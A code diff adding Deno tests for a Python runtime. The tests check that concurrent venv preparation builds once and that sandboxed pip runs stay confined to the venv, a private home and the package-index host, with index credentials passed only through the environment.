+    const results = await Promise.all(
+      [0, 1, 2].map(() =>
+        new PythonRuntime({ env: ix.env }).prepare(
+          manifest(["capibara-good==1.0.0"]),
+          ix.fx.scriptDir,
+          {
+            cacheDir: ix.fx.cacheDir,
+            sandbox: backend,
+            progress: (m) => progress.push(m),
+          },
+        )
+      ),
+    );
+    assert.equal(building(progress).length, 1, progress.join("\n"));
+    assert.equal(new Set(results.map(venvOf)).size, 1);
+    assert.equal(
+      ix.index.requests.filter((r) => r === "/files/capibara_good-1.0.0-py3-none-any.whl").length,
+      1,
+    );
+  },
+);
+
+Deno.test("PythonRuntime.prepare() confines pip to the venv, the index and a private home", async () => {
+  await using fx = await fixture();
+  const home = join(fx.tmp.path, "home");
+  const index = "https://user:s3cret@pypi.corp.example:8443/simple";
+  const wrapped: { spec: CommandSpec; policy: SandboxPolicy }[] = [];
+  // Records what it is asked to run, and runs `false` instead: pip "fails".
+  const recording: SandboxBackend = {
+    name: "recording",
+    available: () => Promise.resolve({ ok: true }),
+    wrap: (spec, policy) => {
+      wrapped.push({ spec, policy });
+      const fail = { program: "/bin/sh", args: ["-c", "exit 1"], env: {}, cwd: "/" };
+      return Promise.resolve({ spec: fail, close: () => Promise.resolve() });
+    },
+  };
+  const env = { PATH: Deno.env.get("PATH") ?? "", HOME: home, PIP_CONFIG_FILE: "/dev/null" };
+  await assert.rejects(
+    new PythonRuntime({ env }).prepare(manifest([`${FIXTURE}==1.0.0`]), fx.scriptDir, {
+      cacheDir: fx.cacheDir,
+      sandbox: recording,
+      indexUrl: index,
+    }),
+    DependencyError,
+  );
+  assert.equal(wrapped.length, 1);
+  const [{ spec, policy }] = wrapped as [{ spec: CommandSpec; policy: SandboxPolicy }];
+  const venv = join(
+    fx.cacheDir,
+    "venvs",
+    `py${PY_VERSION}-${await venvKey(PY_VERSION, [
+      `${FIXTURE}==1.0.0`,
+    ])}`,
+  );
+  assert.equal(spec.program, join(venv, "bin", "python"));
+  assert.ok(spec.args.includes("--only-binary"), spec.args.join(" "));
+  // Credentials travel in the environment, never on a command line other users can read.
+  assert.ok(!spec.args.some((a) => a.includes("s3cret")), spec.args.join(" "));
+  assert.equal(spec.env.PIP_INDEX_URL, index);
+  assert.equal(spec.env.PIP_CONFIG_FILE, "/dev/null");
+  assert.deepEqual(policy.network, ["pypi.corp.example:8443"]);
+  assert.deepEqual(policy.privateNetwork, ["pypi.corp.example:8443"]);
+  assert.deepEqual(policy.write, [venv, join(fx.cacheDir, "pip")]);
+  assert.equal(policy.workdir, venv);
+  assert.ok(!policy.read.some((p) => p.startsWith(fx.tmp.path)), policy.read.join());
+  assert.ok(!policy.tmpDir.startsWith(home));
+  assert.deepEqual(await venvDirs(fx.cacheDir), []);
+});
